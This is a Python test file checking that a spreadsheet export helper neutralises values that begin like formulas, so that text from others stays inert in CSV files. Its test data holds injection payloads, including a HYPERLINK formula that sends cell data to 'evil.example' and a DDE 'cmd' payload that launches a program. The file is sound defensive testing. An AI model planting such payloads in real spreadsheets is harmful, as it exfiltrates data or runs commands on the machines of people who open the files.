"""No text of somebody else is a formula in the table that a planner opens."""

import csv
import io

import pytest

from auxilio.kernel.spreadsheet import text_cell

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "\0=1", "  \t@x",
    '=HYPERLINK("https://evil.example?x="&A1;"A-01")', "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_as_a_formula_is_text(text: str) -> None:
    assert text_cell(text) == f"'{text}"
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerow(map(text_cell, ("A-01", text, 3)))
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";")
    assert row == ["A-01", f"'{text}", "3"]


@pytest.mark.parametrize(
    "value", ["A-01", "", " ", "Gate 4 = north", "'=1", "2026-11-27", 7, -7, 1.5, None, "ñ"]
)
def test_everything_else_stays_as_it_is(value: object) -> None:
    assert text_cell(value) == value
